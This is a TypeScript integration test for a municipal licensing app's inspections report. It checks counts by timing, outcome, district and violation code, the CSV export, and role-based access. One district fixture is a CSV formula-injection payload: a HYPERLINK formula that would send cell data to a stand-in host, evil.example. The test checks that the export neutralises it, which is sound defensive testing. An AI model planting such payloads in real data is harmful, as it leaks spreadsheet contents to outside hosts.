// The inspections' report, GET /reports/inspections, with known answers.
// First against inspections written into the tables as the license workflow
// leaves them (a task, and its result on the license's timeline in the same
// statement): weeks between an inspection coming due and its result cannot be
// made in a test's seconds. Then through the real workflow on Temporal, with
// inspections seconds apart: one recorded on time, one recorded late, one
// left overdue, each counted where it belongs.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sql } from 'drizzle-orm';
import { riyadhDate } from '../domain/calendar';
import { startTestEnv, waitFor, type TestEnv } from './support/env';
import { call, crNumber, healthApplication } from './support/fixtures';
import { seedInspection, seedLicense, type SeededInspection } from './support/inspections';
import { startLicense, timeline, waitForLicense } from './support/licenses';

let env: TestEnv;
const INTERVAL_S = 25;
const SLA_S = 6;

beforeAll(async () => {
  env = await startTestEnv();
  // Before any task opens: the worker caches task_slas once read.
  await env.db.db.execute(sql`update task_slas set working_days = ${SLA_S / 86_400} where kind = 'inspection'`);
  await env.db.db.execute(sql`update inspection_rules set interval = ${`${INTERVAL_S}s`} where risk_class = 'high'`);
  await seed();
}, 120_000);
afterAll(async () => env?.close());

const FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"حي")';
const at = (riyadh: string) => new Date(`${riyadh}:00+03:00`);
const DAY_MS = 86_400_000;

const LICENSES: { n: number; caseDistrict?: string; importedDistrict?: string | null }[] = [
  { n: 1, caseDistrict: 'Al-Mubarraz' },
  { n: 2, caseDistrict: 'Al-Hofuf' },
  { n: 3, importedDistrict: 'Al-Hofuf' },
  { n: 4, importedDistrict: null },
  { n: 5, caseDistrict: FORMULA_DISTRICT },
];
const number = (n: number) => `INS-2025-${String(n).padStart(6, '0')}`;

/** May 2025 in Riyadh, and around it. */
const TASKS: (Omit<SeededInspection, 'licenseNumber'> & { license: number })[] = [
  // Al-Mubarraz: a pass on time; violations to fix recorded late (after a claim, whose row names the task too); one open and overdue.
  { license: 1, seq: 1, status: 'completed', created: at('2025-05-02T09:00'), due: at('2025-05-09T09:00'), decided: at('2025-05-05T11:00'), result: { event: 'inspection_passed', violations: [] } },
  {
    license: 1, seq: 3, status: 'completed', created: at('2025-05-10T09:00'), due: at('2025-05-17T09:00'), decided: at('2025-05-20T12:00'),
    result: { event: 'inspection_violations', violations: [{ code: 'V-CERT-01', severity: 'fix' }, { code: 'V-HYG-01', severity: 'note' }] },
  },
  { license: 1, seq: 6, status: 'open', created: at('2025-05-28T09:00'), due: at('2025-06-04T09:00') },
  // Al-Hofuf: due in April, recorded on May's first morning, noted only (one code since taken out of the table); one due in May recorded in June.
  {
    license: 2, seq: 1, status: 'completed', created: at('2025-04-25T09:00'), due: at('2025-05-02T09:00'), decided: at('2025-05-01T10:00'),
    result: { event: 'inspection_violations', violations: [{ code: 'V-HYG-01', severity: 'note' }, { code: 'V-OLD-01', severity: 'note' }] },
  },
  { license: 2, seq: 3, status: 'completed', created: at('2025-05-25T09:00'), due: at('2025-06-01T09:00'), decided: at('2025-06-02T09:00'), result: { event: 'inspection_passed', violations: [] } },
  // Al-Hofuf too, imported: a closure on time, which is the suspension itself.
  { license: 3, seq: 1, status: 'completed', created: at('2025-05-03T09:00'), due: at('2025-05-10T09:00'), decided: at('2025-05-08T09:00'), result: { event: 'suspended', violations: [{ code: 'V-PEST-01', severity: 'closure' }] } },
  // No district on record: one withdrawn (an agency's suspension first), one open and overdue.
  { license: 4, seq: 1, status: 'cancelled', created: at('2025-05-04T09:00'), due: at('2025-05-11T09:00'), decided: at('2025-05-06T09:00') },
  { license: 4, seq: 3, status: 'open', created: at('2025-05-12T09:00'), due: at('2025-05-19T09:00') },
  // A district a spreadsheet would run: one claimed, due in three days, that came due yesterday.
  { license: 5, seq: 1, status: 'claimed', created: new Date(Date.now() - DAY_MS), due: new Date(Date.now() + 3 * DAY_MS) },
];

async function seed() {
  for (const { n, ...l } of LICENSES) await seedLicense(env, { number: number(n), ...l });
  for (const { license, ...t } of TASKS) await seedInspection(env, { licenseNumber: number(license), ...t });
  // A review decided in May is no inspection.
  await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at, decided_at, decision, license_kind, trade_name, cr_number, seq)
    values ('TRK-20250301-000001:health:1', 'TRK-20250301-000001', 'health_review', 'health_specialist', ${env.offices.a}, 'completed', 1,
      ${at('2025-05-02T09:00')}, ${at('2025-05-03T09:00')}, ${at('2025-05-02T10:00')}, 'approve', 'health', 'Cafe 1', '2250000000', 1)`);
}

const none = { cameDue: 0, doneOnTime: 0, doneLate: 0, withdrawn: 0, openOverdue: 0, openDue: 0, pass: 0, noted: 0, fix: 0, closure: 0, violations: 0 };
const MAY = 'from=2025-05-01&to=2025-05-31';

describe('the inspections report', () => {
  it('counts the period’s inspections by timing and outcome, the open ones now, and the violations by code and by district', async () => {
    const res = await call(env.api, 'supervisor', 'GET', `/reports/inspections?${MAY}`);
    expect(res.statusCode, res.body).toBe(200);
    const r = res.json();
    expect(r.period).toEqual({ from: '2025-05-01', to: '2025-05-31' });
    expect(r.total).toEqual({
      // Came due in May: the April one recorded in May is not, yesterday's is not.
      cameDue: 7,
      doneOnTime: 3,
      doneLate: 1,
      withdrawn: 1,
      // Open now, whenever they came due.
      openOverdue: 2,
      openDue: 1,
      pass: 1,
      noted: 1,
      fix: 1,
      closure: 1,
      violations: 5,
      onTimeShare: 0.75,
    });
    // Each result is in exactly one outcome.
    expect(r.total.pass + r.total.noted + r.total.fix + r.total.closure).toBe(r.total.doneOnTime + r.total.doneLate);
    expect(r.byCode).toEqual([
      { code: 'V-HYG-01', textAr: 'ملاحظات على النظافة العامة', textEn: 'General cleanliness to improve', severity: 'note', violations: 2, inspections: 2 },
      { code: 'V-CERT-01', textAr: 'عامل دون شهادة صحية سارية', textEn: 'A worker without a valid health certificate', severity: 'fix', violations: 1, inspections: 1 },
      // No longer in the table: as recorded.
      { code: 'V-OLD-01', textAr: null, textEn: null, severity: 'note', violations: 1, inspections: 1 },
      { code: 'V-PEST-01', textAr: 'وجود حشرات أو قوارض في منطقة التحضير', textEn: 'Pests in the preparation area', severity: 'closure', violations: 1, inspections: 1 },
    ]);
    expect(r.byDistrict).toEqual([
      { district: FORMULA_DISTRICT, ...none, openDue: 1 },
      // A case's district and an imported license's alike.
      { district: 'Al-Hofuf', ...none, cameDue: 2, doneOnTime: 2, noted: 1, closure: 1, violations: 3 },
      { district: 'Al-Mubarraz', ...none, cameDue: 3, doneOnTime: 1, doneLate: 1, openOverdue: 1, pass: 1, fix: 1, violations: 2 },
      { district: null, ...none, cameDue: 2, withdrawn: 1, openOverdue: 1 },
    ]);
    // The districts add up to the total.
    for (const k of Object.keys(none) as (keyof typeof none)[]) {
      expect(r.byDistrict.reduce((sum: number, d: typeof none) => sum + d[k], 0), k).toBe(r.total[k]);
    }

    // April: the one due then is recorded in May; only those open now are counted.
    const april = (await call(env.api, 'auditor', 'GET', '/reports/inspections?from=2025-04-01&to=2025-04-30')).json();
    expect(april.total).toEqual({ ...none, cameDue: 1, openOverdue: 2, openDue: 1, onTimeShare: null });
    expect(april.byCode).toEqual([]);
  });

  it('gives the same figures as one CSV table, a formula neutralised; for those who may read reports only', async () => {
    const csv = await call(env.api, 'auditor', 'GET', `/reports/inspections?${MAY}&format=csv`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="tarkhees-inspections-2025-05-01-2025-05-31.csv"');
    expect(csv.body.startsWith('\uFEFF')).toBe(true);
    expect(csv.body.slice(1).split('\r\n')).toEqual([
      'scope,key,textAr,textEn,severity,cameDue,doneOnTime,doneLate,withdrawn,openOverdue,openDue,pass,noted,fix,closure,violations,inspections',
      'total,,,,,7,3,1,1,2,1,1,1,1,1,5,',
      `district,"'=HYPERLINK(""http://evil.example/?""&A1,""حي"")",,,,0,0,0,0,0,1,0,0,0,0,0,`,
      'district,Al-Hofuf,,,,2,2,0,0,0,0,0,1,0,1,3,',
      'district,Al-Mubarraz,,,,3,1,1,0,1,0,1,0,1,0,2,',
      'district,,,,,2,0,0,1,1,0,0,0,0,0,0,',
      'code,V-HYG-01,ملاحظات على النظافة العامة,General cleanliness to improve,note,,,,,,,,,,,2,2',
      'code,V-CERT-01,عامل دون شهادة صحية سارية,A worker without a valid health certificate,fix,,,,,,,,,,,1,1',
      'code,V-OLD-01,,,note,,,,,,,,,,,1,1',
      'code,V-PEST-01,وجود حشرات أو قوارض في منطقة التحضير,Pests in the preparation area,closure,,,,,,,,,,,1,1',
      '',
    ]);
    expect((await call(env.api, 'municipalInspector', 'GET', `/reports/inspections?${MAY}`)).statusCode).toBe(403);
    expect((await call(env.api, 'health', 'GET', `/reports/inspections?${MAY}&format=csv`)).statusCode).toBe(403);
    const backwards = await call(env.api, 'supervisor', 'GET', '/reports/inspections?from=2025-05-31&to=2025-05-01');
    expect(backwards.statusCode).toBe(400);
    expect(backwards.json().field).toBe('querystring/to');
    expect((await call(env.api, 'supervisor', 'GET', '/reports/inspections?from=2025-05-01')).json().field).toBe('querystring/to');
  });

  it('counts inspections run through the license workflow: recorded on time, recorded late, and left overdue', async () => {
    const tag = String(Date.now() % 1_000_000);
    const cafe = (name: string) =>
      startLicense(env, { expiresInMs: 300 * DAY_MS, data: { establishment: { ...healthApplication().establishment, crNumber: crNumber(1), district: `E2E-${name}-${tag}` } } });
    const [onTime, late, overdue, passed] = await Promise.all([cafe('on-time'), cafe('late'), cafe('overdue'), cafe('passed')]);
    const due = (n: string) =>
      waitFor(`the inspection of ${n} due`, async () => {
        const items = (await call(env.api, 'municipalInspector', 'GET', '/tasks?kind=inspection&status=active&limit=100')).json().items as { id: string; licenseNumber: string; dueAt: string }[];
        return items.find((t) => t.licenseNumber === n);
      }, { timeoutMs: (INTERVAL_S + 20) * 1_000, intervalMs: 200 });
    const claim = async (id: string) => expect((await call(env.api, 'municipalInspector', 'POST', `/tasks/${id}/claim`)).statusCode).toBe(200);
    const record = async (id: string, body: object) => {
      const res = await call(env.api, 'municipalInspector', 'POST', `/tasks/${id}/inspection`, body);
      expect(res.statusCode, res.body).toBe(200);
    };
    const [a, b, , d] = await Promise.all([due(onTime.number), due(late.number), due(overdue.number), due(passed.number)]);
    // On time: violations to fix (re-inspected in 14 days), and a pass (the next due an interval away, after this test's report).
    await claim(a.id);
    await record(a.id, { result: 'violations', violations: [{ code: 'V-CERT-01', note: 'Cook without a certificate' }] });
    await claim(d.id);
    await record(d.id, { result: 'pass' });
    // Late: claimed, escalated past its SLA, then a closure.
    await claim(b.id);
    await waitFor('both overdue', async () => {
      const overdueEvents = async (n: string) => (await timeline(env, n)).filter((e) => e.event === 'task_overdue').length;
      return (await overdueEvents(late.number)) > 0 && (await overdueEvents(overdue.number)) > 0;
    }, { timeoutMs: SLA_S * 1_000 + 15_000, intervalMs: 250 });
    await record(b.id, { result: 'violations', violations: [{ code: 'V-PEST-01' }] });
    await waitForLicense(env, late.number, 'suspended', (l) => l.status === 'suspended', 10_000);

    const today = riyadhDate(new Date());
    const r = (await call(env.api, 'supervisor', 'GET', `/reports/inspections?from=${today}&to=${today}`)).json();
    const district = (name: string) => r.byDistrict.find((x: { district: string }) => x.district === `E2E-${name}-${tag}`);
    expect(district('on-time')).toEqual({ district: `E2E-on-time-${tag}`, ...none, cameDue: 1, doneOnTime: 1, fix: 1, violations: 1 });
    expect(district('passed')).toEqual({ district: `E2E-passed-${tag}`, ...none, cameDue: 1, doneOnTime: 1, pass: 1 });
    expect(district('late')).toEqual({ district: `E2E-late-${tag}`, ...none, cameDue: 1, doneLate: 1, closure: 1, violations: 1 });
    expect(district('overdue')).toEqual({ district: `E2E-overdue-${tag}`, ...none, cameDue: 1, openOverdue: 1 });
    // Today holds only these four; the open ones now include May's seeded ones (two overdue, one due).
    expect(r.total).toEqual({ ...none, cameDue: 4, doneOnTime: 2, doneLate: 1, openOverdue: 3, openDue: 1, pass: 1, fix: 1, closure: 1, violations: 2, onTimeShare: 0.667 });
    expect(r.byCode.map((x: { code: string; violations: number }) => [x.code, x.violations])).toEqual([['V-CERT-01', 1], ['V-PEST-01', 1]]);
  }, 120_000);
});
